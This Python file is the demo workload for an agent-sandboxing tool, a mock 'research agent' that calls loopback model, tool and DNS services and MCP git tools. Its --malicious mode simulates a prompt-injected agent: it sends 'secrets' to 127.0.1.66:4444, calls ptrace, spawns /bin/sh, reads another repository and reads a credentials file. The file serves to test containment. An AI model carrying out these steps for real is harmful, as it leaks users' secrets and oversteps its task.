"""The built-in demo workload: a tiny "research agent" that behaves like an AI agent does.

Each run picks tools for its task at run time, the way an agent's model would:
- it calls the model API (TCP, 127.0.0.1:MODEL_PORT) and a tool API (TCP, 127.0.0.1:TOOL_PORT),
- resolves a name through a local resolver (one UDP datagram to 127.0.0.1:DNS_PORT),
- runs a helper binary for some tools (``/bin/ls``, ``/bin/cat`` or ``/bin/date``),
- reads and writes a scratch file,
- with ``--mcp-config FILE``, uses MCP tools: FILE is an MCP client configuration
  (``{"mcpServers": {"git": {"command": ..., "args": [...]}}}``, the form MCP clients use); the
  agent launches the ``git`` server from it (``envelope mcp wrap ... -- mcp-server-git``) and
  speaks MCP over its stdio (newline-delimited JSON-RPC: ``initialize``, ``tools/list``, then
  ``git_status`` and ``git_log`` on ``--repo``).

``--task`` varies which tools, files and ``git_log`` depths are used, within the same envelope.
``--malicious`` adds what a prompt-injected agent might do: an exfiltration connect to an address
outside the observed envelope (127.0.1.66, still loopback), a syscall the agent never made
(``ptrace``), a ``git_log`` on another repository (``--other-repo``), a shell it never spawned
(``/bin/sh``) and, with ``--credentials PATH``, a read of a credentials file it never read. Only
loopback addresses are ever contacted.
"""

from __future__ import annotations

import argparse
import ctypes
import errno
import json
import os
import socket
import subprocess
import sys
import tempfile

# Loopback ports of the demo's services; `make demo` picks free ones when these are taken and
# hands them to the agent through the environment.
MODEL_PORT = int(os.environ.get("ENVELOPE_DEMO_MODEL_PORT", "18080"))
TOOL_PORT = int(os.environ.get("ENVELOPE_DEMO_TOOL_PORT", "18081"))
DNS_PORT = int(os.environ.get("ENVELOPE_DEMO_DNS_PORT", "18053"))
EXFIL = ("127.0.1.66", 4444)
# (ls lists /tmp, not /: listing / is read_dir on every directory, sensitive ones included, which
# Landlock cannot grant without covering them)
HELPERS = {0: ["/bin/ls", "/tmp"], 1: ["/bin/cat", "/etc/hostname"], 2: ["/bin/date", "-u"]}


def call(port: int, payload: bytes) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(payload)
        return s.recv(256).decode(errors="replace")


def resolve(name: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(name.encode(), ("127.0.0.1", DNS_PORT))
        return s.recv(256).decode(errors="replace")


class McpClient:
    """A minimal MCP client on stdio: one JSON-RPC request at a time (protocol 2025-11-25)."""

    def __init__(self, argv: list[str], log):
        self.proc = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=log)
        self.next_id = 0

    def request(self, method: str, params: dict) -> dict:
        self.next_id += 1
        self.proc.stdin.write((json.dumps({"jsonrpc": "2.0", "id": self.next_id, "method": method,
                                           "params": params}) + "\n").encode())
        self.proc.stdin.flush()
        while True:
            line = self.proc.stdout.readline()
            if not line:
                raise RuntimeError(f"the MCP server exited (status {self.proc.wait()})")
            msg = json.loads(line)
            if msg.get("id") == self.next_id and "method" not in msg:
                return msg

    def notify(self, method: str) -> None:
        self.proc.stdin.write((json.dumps({"jsonrpc": "2.0", "method": method}) + "\n").encode())
        self.proc.stdin.flush()

    def __enter__(self) -> "McpClient":
        r = self.request("initialize", {"protocolVersion": "2025-11-25", "capabilities": {},
                                        "clientInfo": {"name": "demo-agent", "version": "1"}})
        if "error" in r:
            raise RuntimeError(f"initialize: {r['error']['message']}")
        self.notify("notifications/initialized")
        return self

    def __exit__(self, *exc) -> None:
        self.proc.stdin.close()
        self.proc.wait(timeout=30)

    def tools(self) -> list[str]:
        r = self.request("tools/list", {})
        return [t["name"] for t in r.get("result", {}).get("tools", [])]

    def call(self, name: str, arguments: dict) -> tuple[bool, str]:
        """(refused or failed, the first line of the text the agent reads back)."""
        r = self.request("tools/call", {"name": name, "arguments": arguments})
        if "error" in r:
            return True, r["error"]["message"]
        res = r["result"]
        text = "".join(b.get("text", "") for b in res.get("content", []) if isinstance(b, dict))
        return bool(res.get("isError")), text.strip().splitlines()[0] if text.strip() else ""


def use_mcp_tools(server: list[str], repo: str, task: int, other_repo: str | None, log) -> int:
    status = 0
    with McpClient(server, log) as mcp:
        print(f"mcp tools offered: {len(mcp.tools())}")
        calls = [("git_status", {"repo_path": repo}), ("git_log", {"repo_path": repo, "max_count": 1 + task % 4})]
        if other_repo:
            calls.append(("git_log", {"repo_path": other_repo, "max_count": 1}))
        for name, args in calls:
            failed, text = mcp.call(name, args)
            where = "another repository" if args["repo_path"] != repo else "its repository"
            print(f"mcp {name} on {where}: {'REFUSED: ' if failed else ''}{text}")
            status = 3 if failed else status
    return status


def attempt(what: str, fn) -> bool:
    """Run ``fn``; print its outcome; True when it succeeded."""
    try:
        fn()
    except OSError as e:
        print(f"{what}: {errno.errorcode.get(e.errno, e.errno)}")
        return False
    print(f"{what}: ok")
    return True


def run(task: int, malicious: bool, mcp_server: list[str] | None = None, repo: str | None = None,
        other_repo: str | None = None, mcp_log=None, credentials: str | None = None) -> int:
    answer = call(MODEL_PORT, f"plan task {task}".encode())
    print(f"model: {answer}")
    print(f"resolved: {resolve('tools.internal')}")
    for step in range(len(HELPERS)):
        tool = (task + step) % len(HELPERS)
        out = subprocess.run(HELPERS[tool], capture_output=True, text=True, check=False)
        print(f"tool {HELPERS[tool][0]} -> {out.returncode}")
        print(f"tool api: {call(TOOL_PORT, f'result {tool}'.encode())}")
    with tempfile.NamedTemporaryFile("w+", prefix="agent-notes-") as notes:
        notes.write(f"task {task} done\n")
        notes.flush()
        os.fsync(notes.fileno())
    status = 0
    if mcp_server:
        status = use_mcp_tools(mcp_server, repo, task, other_repo if malicious else None, mcp_log)
    if malicious:
        try:
            with socket.create_connection(EXFIL, timeout=2) as s:
                s.sendall(b"secrets")
            print("exfiltration connect: succeeded")
        except OSError as e:
            print(f"exfiltration connect: {errno.errorcode.get(e.errno, e.errno)}")
            status = 3
        # the agent is the workload, a program of its own: its own libc handle, not Envelope's
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.restype = ctypes.c_long
        rc = libc.ptrace(0, 0, None, None)  # PTRACE_TRACEME
        err = ctypes.get_errno()
        print(f"ptrace: {'ok' if rc == 0 else errno.errorcode.get(err, err)}")
        status = status if rc == 0 else 3
        if not attempt("spawn /bin/sh", lambda: subprocess.run(["/bin/sh", "-c", "id"], capture_output=True)):
            status = 3
        if credentials and not attempt("read credentials", lambda: open(credentials, encoding="utf-8").read()):
            status = 3
    return status


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--task", type=int, default=0)
    p.add_argument("--malicious", action="store_true")
    p.add_argument("--mcp-config", help="MCP client configuration with a 'git' server")
    p.add_argument("--repo", help="the repository the agent's git tools work on")
    p.add_argument("--other-repo", help="with --malicious: a repository the agent was never asked to read")
    p.add_argument("--mcp-log", help="file for the MCP server's stderr (default: inherited)")
    p.add_argument("--credentials", metavar="PATH", help="with --malicious: a credentials file to read")
    args = p.parse_args(argv)
    server = None
    if args.mcp_config:
        if not args.repo:
            p.error("--mcp-config needs --repo")
        with open(args.mcp_config, encoding="utf-8") as f:
            entry = json.load(f)["mcpServers"]["git"]
        server = [entry["command"], *entry.get("args", [])]
    log = open(args.mcp_log, "ab") if args.mcp_log else None
    try:
        return run(args.task, args.malicious, server, args.repo, args.other_repo, log, args.credentials)
    finally:
        if log:
            log.close()


if __name__ == "__main__":
    sys.exit(main())
